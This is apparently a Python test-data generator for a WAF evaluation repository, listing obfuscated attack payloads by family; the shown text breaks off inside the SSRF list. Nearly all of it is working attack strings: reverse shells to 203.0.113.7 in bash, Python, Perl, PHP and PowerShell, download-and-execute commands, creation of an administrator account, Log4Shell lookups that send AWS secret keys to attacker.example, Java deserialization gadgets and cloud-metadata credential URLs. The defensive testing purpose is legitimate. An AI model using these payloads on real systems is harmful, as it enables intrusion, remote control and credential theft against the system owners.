"""Eighth blind set: what an evasion specialist sends against a regex WAF in three families, with benign
requests that use the same vocabulary and punctuation.

- rce: "unix" (quotes, backslashes and empty expansions inside command names, globbing, brace expansion,
  $IFS, here-strings, base64 / hex / octal / ANSI-C decoding, variable slicing, reverse shells, newline
  separators) and "windows" (caret escapes, %COMSPEC% and variable substrings, delayed expansion,
  PowerShell -enc and IEX with concatenation, LOLBins);
- java: "jndi" (Log4Shell lookups nested in lookups, defaults and many JNDI protocols), "el" (OGNL, SpEL,
  Jakarta EL, Thymeleaf, MVEL, Groovy), "deser" (Java serialization streams in base64 / hex / gzip, and
  gadget classes in Jackson, fastjson, XStream, XMLDecoder and SnakeYAML documents);
- generic: "nodejs" (child_process through obfuscated require, constructor chains, Function, vm,
  process.binding), "ssrf" (cloud metadata in every spelling, names resolving inside, redirectors, URL
  parser confusions) and "pollution" (__proto__ and constructor.prototype in query, form, JSON, a JSON
  cookie and a JSON header, nested and encoded).

Authorship and independence: written for this repository by an author who read only the record helpers of
family_gen_blind_php.py and the replay harness (blind_replay.py), from general knowledge of each technique.
Reading that file for its helpers showed its own PHP and Java payload lists too; every payload here is this
author's. No rule of ours (nothing under lua/), no ruleset regression test and no public payload list was
read, and nothing here was changed after seeing what the WAF blocks. Each payload goes into
three of our input places, rotating through query, form, JSON, cookie and header as in
family_gen_blind_php.attacks; attack records also carry their `payload`. Deterministic: no randomness, no
clock (the gzip stream has mtime 0).
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import re
import struct
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _get, _json
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose, three_places
from .records import numbered, print_records

# --------------------------------------------------------------------------------------------- rce / unix
UNIX = [
    ";w'h'o'am'i",
    '|c"a"t /e"t"c/pa"ss"wd',
    r";/b\in/c\at /e\tc/sh\adow",
    "&& wh$@oami",
    ";ca${x}t /et${u}c/pas${x}swd",
    ";/???/c?t /???/p?ss??",
    "|/bin/ca? /et?/passw?",
    ";{cat,/etc/passwd}",
    ";{wget,http://203.0.113.7/s.sh,-O,/tmp/s.sh};{sh,/tmp/s.sh}",
    ";cat${IFS}/etc/passwd",
    ";cat$IFS$9/etc/passwd",
    "||curl${IFS}-s${IFS}http://203.0.113.7/x|sh",
    ";IFS=,;c=cat,/etc/passwd;$c",
    ";bash<<<$(base64 -d<<<aWQ=)",
    ";sh<<<'id;uname -a'",
    ";echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh",
    ";$(echo aWQ=|base64 -d)",
    r';$(echo -e "\x63\x61\x74") /etc/passwd',
    r";$(printf '\167\150\157\141\155\151')",
    r";$'\x63\x61\x74' $'\x2fetc\x2fpasswd'",
    r";$'\151\144'",
    ";${PATH:0:1}bin${PATH:0:1}cat ${PATH:0:1}etc${PATH:0:1}passwd",
    ";cat ${HOME:0:1}etc${HOME:0:1}shadow",
    ";${SHELL:5:4} -c id",
    ";x=hoami;w$x",
    ";bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    ";bash -c 'exec 5<>/dev/tcp/203.0.113.7/443;cat <&5|sh >&5 2>&5'",
    "|nc -e /bin/sh 203.0.113.7 4444",
    ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
    ";python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));"
    "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"/bin/sh\")'",
    ";perl -e 'use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");'",
    "8.8.8.8\ncat /etc/passwd",
    "x\n/usr/bin/id\n",
    r"`wh\oami`",
    r";w\h\o\a\m\i",
    ";cat</etc/passwd",
    ";{ls,-la,/}",
    "&&curl -d @/etc/passwd 203.0.113.7",
    ";wget -qO- 203.0.113.7/x.sh|bash",
    ";a=c;b=at;$a$b /etc/passwd",
    ";/bin/s[h] -c id",
    ";echo${IFS}aWQ=|base64${IFS}-d|bash",
    ';"w"ho"a"mi',
    ";socat tcp-connect:203.0.113.7:4444 exec:/bin/sh,pty,stderr",
    ";php -r '$s=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    ";$0<<<id",
    "|xxd -r -p<<<6964|sh",
    ";$(rev<<<imaohw)",
    ";echo dW5hbWUgLWE7aWQ=|openssl base64 -d|sh",
    "localhost\nsleep 5\n",
]

# ------------------------------------------------------------------------------------------ rce / windows
WINDOWS = [
    "& w^h^o^a^m^i",
    '| c^md /c "who^ami"',
    "&& %COMSPEC% /c whoami",
    "& %ComSpec% /k net user",
    "& %COMSPEC:~-7,3% /c whoami",
    "& net%ProgramFiles:~10,1%user",
    '& cmd /v:on /c "set x=whoami&&!x!"',
    '& cmd /V /C "set a=who&&set b=ami&&!a!!b!"',
    "| powershell -e dwBoAG8AYQBtAGkA",
    "& powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4Ad"
    "AApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4ANwAvAGEALg"
    "BwAHMAMQAnACkA",
    "| powershell -c \"&('I'+'EX') ('who'+'ami')\"",
    "| powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.7/p.ps1')\"",
    "| powershell -c \"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))\"",
    r"& certutil -urlcache -split -f http://203.0.113.7/a.exe %TEMP%\a.exe & %TEMP%\a.exe",
    r"& certutil -decode %TEMP%\p.b64 %TEMP%\p.exe",
    r"& bitsadmin /transfer j /download /priority high http://203.0.113.7/a.exe C:\Users\Public\a.exe",
    "& mshta http://203.0.113.7/a.hta",
    "& mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\":close\")",
    r'& rundll32 javascript:"\..\mshtml,RunHTMLApplication ";document.write();'
    r'GetObject("script:http://203.0.113.7/x.sct")',
    r"& rundll32.exe \\203.0.113.7\s\x.dll,DllMain",
    "& regsvr32 /s /n /u /i:http://203.0.113.7/file.sct scrobj.dll",
    r"| type C:\Windows\win.ini",
    "&& net user svc_backup P@ssw0rd1 /add && net localgroup administrators svc_backup /add",
    "|| ping -n 3 203.0.113.7",
    "& nslookup %USERNAME%.attacker.example",
    '& wmic process call create "calc.exe"',
    '& wmic os get /format:"http://203.0.113.7/x.xsl"',
    '& w"h"o"a"m"i',
    "&(who^ami)",
    "& start /b cmd /c dir C:\\",
    "& for /f \"delims=\" %i in ('whoami') do nslookup %i.attacker.example",
    r"& cmd.exe /c echo %USERDOMAIN%\%USERNAME% > \\203.0.113.7\share\x",
    '& schtasks /create /sc minute /tn upd /tr "powershell -w hidden -c iex(iwr http://203.0.113.7/u)"',
    r"& reg query HKLM\SYSTEM\CurrentControlSet\Services\Tcpip\Parameters",
    r"; Invoke-WebRequest -Uri http://203.0.113.7/a.exe -OutFile $env:TEMP\a.exe; Start-Process $env:TEMP\a.exe",
    r"| pow^ers^hell -c Get-Content C:\Windows\System32\drivers\etc\hosts",
    r"& %SystemRoot%\System32\cmd.exe /c dir",
    r"| forfiles /p c:\windows\system32 /m notepad.exe /c calc.exe",
    "& msiexec /q /i http://203.0.113.7/p.msi",
    r"& cscript //E:jscript \\203.0.113.7\s\x.txt",
    r"&& curl.exe -o %TEMP%\x.exe http://203.0.113.7/x.exe && %TEMP%\x.exe",
    "| powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('203.0.113.7',443);$s=$c.GetStream();"
    "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding)"
    ".GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($r),0,$r.Length)}\"",
    "| powershell -c \"&(gcm *ke-ex*) 'whoami'\"",
    "| powershell -c \"$e=[char]105+[char]101+[char]120;&$e 'whoami'\"",
    "& c^e^r^t^u^t^i^l -urlcache -f http://203.0.113.7/x x.exe",
    "| p^owershell -w 1 -c \"(New-Object Net.WebClient).DownloadFile('http://203.0.113.7/x.exe','x.exe')\"",
]

# ----------------------------------------------------------------------------------------------- java / jndi
JNDI = [
    "${jndi:ldap://203.0.113.7:1389/a}",
    "${jndi:rmi://attacker.example:1099/Exploit}",
    "${jndi:dns://attacker.example/x}",
    "${jndi:iiop://attacker.example/o}",
    "${jndi:corba://attacker.example/o}",
    "${jndi:nds://attacker.example/o}",
    "${jndi:http://attacker.example/o}",
    "${jndi:nis://attacker.example/o}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/a}",
    "${${upper:J}${upper:N}${upper:D}${upper:I}:rmi://attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}",
    "${${sys:nope:-j}${sys:nope:-n}di:ldap://attacker.example/a}",
    "${j${lower:N}di:ldap://attacker.example/a}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a}",
    "${jndi:dns://${sys:java.version}.attacker.example}",
    "${jndi:ldap://${hostName}.attacker.example/a}",
    "${jnd${upper:ı}:ldap://attacker.example/a}",
    "${${date:'j'}ndi:ldap://attacker.example/a}",
    "${${lower:${lower:jndi}}:${lower:rmi}://attacker.example/a}",
    "${jndi:ldap://127.0.0.1#attacker.example:1389/a}",
    "${jndi:ldap://attacker.example:1389/${env:USER}}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}",
    "${${k8s:k5:-J}${k8s:k5:-ND}i${k8s:k5:-:}ldap://attacker.example/a}",
    "${j${::-}ndi:ldap://attacker.example/a}",
    "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-r}mi://attacker.example/a}",
    "${jndi:ldaps://attacker.example/a}",
    "${jndi:iiopname://attacker.example/a}",
    "${jndi:corbaname:iiop:attacker.example#x}",
    "${${lower:jn}${lower:di}:ldap://attacker.example/a}",
    "${${upper:j}${lower:n}${::-d}${env:X:-i}:dns://attacker.example}",
    "${jndi:${env:x:-l}${env:x:-d}${env:x:-a}${env:x:-p}://attacker.example/a}",
    "${${web:x:-j}ndi:ldap://attacker.example/a}",
    "${${ctx:x:-j}${ctx:x:-ndi}:ldap://attacker.example/a}",
    "${jndi:rmi://attacker.example/${java:version}}",
    "${${lower:${upper:j}}ndi:ldap://attacker.example/a}",
    "${jndi:ldap://attacker.example/${sys:user.name}}",
    "${${main:x:-j}${bundle:x:-n}${spring:x:-d}${event:x:-i}:ldap://attacker.example/a}",
    "${jndi:ldap://[::ffff:cb00:7107]:1389/a}",
]

# ------------------------------------------------------------------------------------------------- java / el
EL = [
    "%{(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}",
    "%{#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,@java.lang.Runtime@getRuntime().exec('id')}",
    "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),"
    "'utf-8')).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader('X-Cmd',#a))}",
    "%{(#context['xwork.MethodAccessor.denyMethodExecution']=false).(#_memberAccess['allowStaticMethodAccess']="
    "true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "%{(#ct=#request['struts.valueStack'].context).(#cr=#ct['com.opensymphony.xwork2.ActionContext.container'])"
    ".(#ou=#cr.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ou.getExcludedPackageNames().clear())"
    ".(#ou.getExcludedClasses().clear())}",
    "%{@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('whoami').getInputStream())}",
    "(#r=@java.lang.Runtime@getRuntime()).(#r.exec('id'))",
    "%{#application['org.apache.tomcat.InstanceManager'].newInstance('org.apache.commons.collections.BeanMap')}",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    'T (java.lang.Runtime) . getRuntime() . exec("touch /tmp/x")',
    "T(java.lang.Runtime).getRuntime().exec(new String[]{'/bin/sh','-c','id'})",
    "#{T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id')"
    ".getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))}",
    "new java.lang.ProcessBuilder('id').start()",
    "T(java.lang.Class).forName('java.lang.Run'+'time').getMethod('getRu'+'ntime').invoke(null).exec('id')",
    "T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character)"
    ".toString(100)))",
    "new javax.script.ScriptEngineManager().getEngineByName('nashorn').eval('java.lang.Runtime.getRuntime()"
    ".exec(\"id\")')",
    "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript')"
    ".eval('java.lang.Runtime.getRuntime().exec(\"id\")')}",
    '${"".getClass().forName("java.lang.Runtime").getMethods()[6].invoke(null).exec("id")}',
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "${#rt = @java.lang.Runtime@getRuntime(),#rt.exec('id')}",
    '${@java.lang.Runtime@getRuntime().exec("id")}',
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    "import java.lang.Runtime; r = Runtime.getRuntime(); r.exec('id');",
    '"id".execute().text',
    "['sh','-c','id'].execute()",
    '${"whoami".execute().text}',
    'def p = "cat /etc/passwd".execute(); p.text',
    '@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec("id")})\ndef x',
    "Class.forName('java.lang.Runtime').getRuntime().exec('id')",
    "('who'+'ami').execute().text",
    r"%{@java.lang.Runtime@getRuntime().exec('\u0069\u0064')}",
    "T(String).getClass().forName('java.l'+'ang.Ru'+'ntime').getMethod('ex'+'ec',T(String)).invoke("
    "T(String).getClass().forName('java.l'+'ang.Ru'+'ntime').getMethod('getRu'+'ntime').invoke(null),'id')",
    '#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime()'
    '.exec(new String[]{"id"}).getInputStream()))}',
    '${Class.forName("com.opensymphony.webwork.ServletActionContext").getMethod("getResponse",null).invoke(null,'
    'null).setHeader("X-R",Class.forName("javax.script.ScriptEngineManager").newInstance().getEngineByName('
    '"nashorn").eval("new java.lang.ProcessBuilder(\'id\').start()"))}',
    '@{new java.util.Scanner(Runtime.getRuntime().exec("id").getInputStream()).useDelimiter("\\\\A").next()}',
    "${Runtime.getRuntime().exec('id')}",
    "${facesContext.getExternalContext().getResponse().getWriter().print(''.getClass().forName("
    "'java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id'))}",
]


# ---------------------------------------------------------------------------------------------- java / deser
def _java_stream(*classes: str) -> bytes:
    """An ObjectOutputStream of nested objects, each class holding one Object field set to the next one."""
    out = b"\xac\xed\x00\x05"
    for i, name in enumerate(classes):
        suid = hashlib.sha256(name.encode()).digest()[:8]
        nested = i + 1 < len(classes)
        out += b"\x73\x72" + struct.pack(">H", len(name)) + name.encode() + suid + b"\x02"
        if nested:
            out += struct.pack(">H", 1) + b"L" + struct.pack(">H", 1) + b"x" + b"\x74" + struct.pack(">H", 18)
            out += b"Ljava/lang/Object;"
        else:
            out += struct.pack(">H", 0)
        out += b"\x78\x70"
    return out


_CC = _java_stream("java.util.PriorityQueue", "org.apache.commons.collections4.comparators.TransformingComparator",
                   "org.apache.commons.collections4.functors.InvokerTransformer")
_BAVE = _java_stream("javax.management.BadAttributeValueExpException",
                     "org.apache.commons.collections.keyvalue.TiedMapEntry",
                     "org.apache.commons.collections.map.LazyMap",
                     "org.apache.commons.collections.functors.ChainedTransformer")
_AIH = _java_stream("sun.reflect.annotation.AnnotationInvocationHandler", "org.apache.commons.collections.map.LazyMap",
                    "org.apache.commons.collections.functors.InvokerTransformer")
_URLDNS = _java_stream("java.util.HashMap", "java.net.URL")
_TPL = _java_stream("java.util.PriorityQueue", "org.apache.commons.beanutils.BeanComparator",
                    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl")
_SPRING = _java_stream("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider",
                       "org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler")
_ROME = _java_stream("java.util.HashMap", "com.sun.syndication.feed.impl.EqualsBean",
                     "com.sun.syndication.feed.impl.ToStringBean", "com.sun.rowset.JdbcRowSetImpl")


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


DESER = [
    _b64(_CC),
    _CC.hex(),
    _BAVE.hex().upper(),
    base64.urlsafe_b64encode(_AIH).decode().rstrip("="),
    _b64(gzip.compress(_URLDNS, mtime=0)),
    _b64(_TPL),
    _b64(_SPRING),
    _b64(_ROME),
    "javax.faces.ViewState=" + _b64(gzip.compress(_BAVE, mtime=0)),
    '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"rmi://attacker.example:1099/Obj","autoCommit":true}]',
    '{"@class":"org.apache.xbean.propertyeditor.JndiConverter","asText":"ldap://attacker.example/a"}',
    '{"object":["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;'
    "INIT=RUNSCRIPT FROM 'http://attacker.example/x.sql'\"}]}",
    '["org.springframework.context.support.ClassPathXmlApplicationContext","http://attacker.example/spel.xml"]',
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example/a","autoCommit":true}',
    '{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"rmi://attacker.example/a","autoCommit":true}',
    '{"@type":"[com.sun.rowset.JdbcRowSetImpl"[{,"dataSourceName":"ldap://attacker.example/a","autoCommit":true}',
    '{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.'
    'JdbcRowSetImpl","dataSourceName":"ldap://attacker.example/a","autoCommit":true}}',
    r'{"\u0040\u0074\u0079\u0070\u0065":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example/a",'
    r'"autoCommit":true}',
    r'{"\x40\x74ype":"org.apache.shiro.jndi.JndiObjectFactory","resourceName":"ldap://attacker.example/a"}',
    '{"@type":"java.lang.AutoCloseable","@type":"com.mysql.jdbc.JDBC4Connection","hostToConnectTo":'
    '"attacker.example","portToConnectTo":3306,"info":{"user":"yso_CommonsCollections4_id","autoDeserialize":'
    '"true","statementInterceptors":"com.mysql.jdbc.interceptors.ServerStatusDiffInterceptor"},'
    '"databaseToConnectTo":"dbname","url":""}',
    '{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["yv66vgAAADQAJgoAAwAP"],'
    '"_name":"a","_tfactory":{},"_outputProperties":{}}',
    '{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory","properties":{"data_source":'
    '"ldap://attacker.example/a"}}',
    '{"@type":"com.zaxxer.hikari.HikariConfig","metricRegistry":"ldap://attacker.example/a"}',
    '{"name":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"x":{"@type":'
    '"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://attacker.example/b","autoCommit":true}}',
    "<sorted-set><string>x</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="
    "\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>/bin/sh</string>"
    "<string>-c</string><string>id</string></command></target><action>start</action></handler></dynamic-proxy>"
    "</sorted-set>",
    "<linked-hash-set><dynamic-proxy><interface>java.util.Map</interface><handler class=\"java.beans.EventHandler\">"
    "<target class=\"java.lang.ProcessBuilder\"><command><string>calc</string></command></target><action>start"
    "</action></handler></dynamic-proxy></linked-hash-set>",
    "<java.util.PriorityQueue serialization=\"custom\"><unserializable-parents/><java.util.PriorityQueue><default>"
    "<size>2</size><comparator class=\"org.apache.commons.beanutils.BeanComparator\"><property>outputProperties"
    "</property></comparator></default><int>3</int><com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl "
    "serialization=\"custom\"><com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl><default><__name>x"
    "</__name><__bytecodes><byte-array>yv66vgAAADIA</byte-array></__bytecodes></default></com.sun.org.apache."
    "xalan.internal.xsltc.trax.TemplatesImpl></com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl>"
    "</java.util.PriorityQueue></java.util.PriorityQueue>",
    "<java.util.HashMap><entry><jdk.nashorn.internal.objects.NativeString><value class=\"com.sun.xml.internal.bind."
    "v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding.xml."
    "XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto."
    "NullCipher\"><serviceIterator class=\"javax.imageio.spi.FilterIterator\"><iter class=\"java.util."
    "ArrayList$Itr\"/><next class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></next>"
    "</serviceIterator><lock/></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects."
    "NativeString><string>x</string></entry></java.util.HashMap>",
    "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\"><array "
    "class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void "
    "method=\"start\"/></object></java>",
    "<java><void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\"><void "
    "index=\"0\"><string>/bin/bash</string></void><void index=\"1\"><string>-c</string></void><void index=\"2\">"
    "<string>curl attacker.example|sh</string></void></array><void method=\"start\"/></void></java>",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
    "[\"http://attacker.example/yaml.jar\"]]]]",
    "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://attacker.example/a\", autoCommit: true}",
    "!!org.springframework.context.support.FileSystemXmlApplicationContext [\"http://attacker.example/x.xml\"]",
    "!<tag:yaml.org,2002:javax.script.ScriptEngineManager> [!<tag:yaml.org,2002:java.net.URLClassLoader> "
    "[[!<tag:yaml.org,2002:java.net.URL> [\"http://attacker.example/y.jar\"]]]]",
    "%TAG !x! tag:yaml.org,2002:\n---\n!x!javax.script.ScriptEngineManager [!x!java.net.URLClassLoader "
    "[[!x!java.net.URL [\"http://attacker.example/z.jar\"]]]]",
    '["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://attacker.example/a"}]',
    '{"@class":"org.springframework.beans.factory.config.PropertyPathFactoryBean","targetBeanName":'
    '"ldap://attacker.example/a","propertyPath":"x","beanFactory":{"@class":'
    '"org.springframework.jndi.support.SimpleJndiBeanFactory","shareableResources":["ldap://attacker.example/a"]}}',
    '{"@type":"java.net.InetSocketAddress"{"address":,"val":"dnslog.attacker.example"}}',
]

# ------------------------------------------------------------------------------------------ generic / nodejs
NODEJS = [
    "require('chi'+'ld_pro'+'cess').execSync('id')",
    "require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).execSync('id')",
    r"require('\x63hild_process').execSync('id')",
    r"require('\u0063hild_process').exec('id')",
    "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==','base64').toString()).execSync('id')",
    "require(atob('Y2hpbGRfcHJvY2Vzcw')).execSync('id')",
    "require('child_process')['ex'+'ecSync']('id')",
    "require(['child','process'].join('_')).spawnSync('id')",
    "require('child_process').spawnSync('sh',['-c','id']).stdout.toString()",
    "process.mainModule.require('child_process').execSync('id').toString()",
    "process['main'+'Module']['req'+'uire']('child_'+'process')['exe'+'cSync']('id')",
    "global['pro'+'cess'].mainModule.require('child_process').execSync('id')",
    "globalThis[String.fromCharCode(112,114,111,99,101,115,115)].mainModule.require('child_process').execSync('id')",
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "[]['constructor']['constructor']('return this.process.mainModule.require(\"child_process\").execSync(\"id\")')()",
    "''['constructor']['constructor']('return process')().kill(1)",
    "Function('return process')().mainModule.require('child_process').execSync('id')",
    "new Function('re'+'turn pro'+'cess')().binding('spawn_sync')",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',readable:true,"
    "writable:false},{type:'pipe',readable:false,writable:true},{type:'pipe',readable:false,writable:true}]})",
    "process.binding('fs').internalModuleReadJSON('/etc/passwd')",
    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")().mainModule.require("
    "\"child_process\").execSync(\"id\")')",
    "const vm=require('vm');vm.runInNewContext('const c=this.constructor.constructor;c(\"return process\")().exit()')",
    "(function*(){}).constructor('yield process.mainModule.require(\"child_process\").execSync(\"id\")')().next()",
    "Reflect.get(process,'mainModule').require('child_process').execSync('id')",
    "eval('req'+'uire')('child_process').execSync('id')",
    "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp','base64')+'')",
    "module.require('child_process').execSync('id')",
    "require('module')._load('child_process').execSync('id')",
    "process.dlopen(module,'/tmp/x.node')",
    "import('child_process').then(c=>c.execSync('id'))",
    "require('fs').writeFileSync('/app/views/x.ejs','<%= process.mainModule.require(\"child_process\")"
    ".execSync(\"id\") %>')",
    "_$$ND_FUNC$$_function(){require('child_'+'process').execSync('id')}()",
    "require('child_process').fork('/tmp/x.js')",
    "(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();"
    "c.connect(4444,'203.0.113.7',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});})()",
    "res.end(require('fs').readFileSync('/etc/passwd'))",
    "Object.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "Math['constructor']['constructor']('return process')().exit()",
    "${process.mainModule.require('child_process').execSync('id')}",
    "require('child_process').execFileSync('/usr/bin/curl',['http://203.0.113.7/'+process.env.AWS_SECRET_ACCESS_KEY])",
    "process.mainModule.constructor._load('child_process').execSync('id')",
    "new (require('worker_threads').Worker)(\"require('child_process').execSync('id')\",{eval:true})",
    "[].map.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "(0,eval)('process').mainModule.require('child_process').execSync('id')",
]

# -------------------------------------------------------------------------------------------- generic / ssrf
SSRF = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/user-data",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://0xa9.254.0251.0376/latest/meta-data/",
    "http://169.254.43518/latest/meta-data/",
    "http://169.16689662/latest/meta-data/",
    "http://0251.0376.0124776/latest/meta-data/",
    "http://00000251.00000376.00000251.00000376/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/iam/",
    "http://[::169.254.169.254]/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://169-254-169-254.sslip.io/latest/meta-data/",
    "http://instance-data/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token",
    "http://metadata.goog/computeMetadata/v1/?recursive=true",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/opc/v2/instance/",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.170.2/v2/credentials/5f2b3c4d-1111-2222-3333-444455556666",
    "https://kubernetes.default.svc.cluster.local/api/v1/namespaces/kube-system/secrets",
    "https://httpbin.org/redirect-to?url=http://169.254.169.254/latest/meta-data/",
    "http://r.attacker.example/302?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
    "http://attacker.example@169.254.169.254/latest/meta-data/",
    "http://allowed.example.com#@169.254.169.254/latest/meta-data/",
    "http://169.254.169.254#@allowed.example.com/",
    "http://allowed.example.com\\@169.254.169.254/latest/meta-data/",
    "http://169.254.169.254\\@allowed.example.com/",
    "http://allowed.example.com&@169.254.169.254# @allowed.example.com/",
    "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/",
    "http://１６９．２５４．１６９．２５４/latest/meta-data/",
    "http://169。254。169。254/latest/meta-data/",
    "http://169.254.169.254./latest/meta-data/",
    "http://metadata.google.internal./computeMetadata/v1/instance/hostname",
    "gopher://169.254.169.254:80/_PUT%20/latest/api/token%20HTTP/1.1%0d%0aHost:%20169.254.169.254%0d%0a"
    "X-aws-ec2-metadata-token-ttl-seconds:%2021600%0d%0a%0d%0a",
    "http://0xA9.0xFE.0xA9.0xFE/latest/meta-data/",
    "http://169.254.0xa9fe/latest/meta-data/",
    "http://2852039166:80/latest/meta-data/",
    "http://00251.254.169.254/latest/meta-data/",
